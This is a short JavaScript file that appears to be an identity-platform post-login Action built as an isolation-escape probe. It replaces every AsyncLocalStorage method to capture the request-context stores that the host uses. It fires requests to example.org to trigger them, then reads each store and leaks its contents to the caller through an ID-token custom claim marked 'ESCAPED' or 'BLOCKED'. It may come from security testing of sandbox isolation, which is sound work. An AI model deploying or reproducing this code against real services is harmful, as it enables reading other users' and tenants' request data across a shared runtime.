// methods of AsyncLocalStorage replaced, to get the one that holds the places of requests, and to enter another place
exports.onExecutePostLogin = async (event, api) => {
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const { prototype } = require('async_hooks').AsyncLocalStorage;
  const met = new Set();
  for (const [name, { value }] of Object.entries(Object.getOwnPropertyDescriptors(prototype))) {
    if (typeof value === 'function' && name !== 'constructor') prototype[name] = function (...args) { met.add(this); return value.apply(this, args); };
  }
  await fetch('https://example.org/a').catch(() => {});
  await new Promise((done) => require('http').get('http://example.org/b').on('error', done));
  out(met.size > 0 ? 'ESCAPED:' + [...met].map((storage) => storage.getStore()) : 'BLOCKED:nothing met');
};
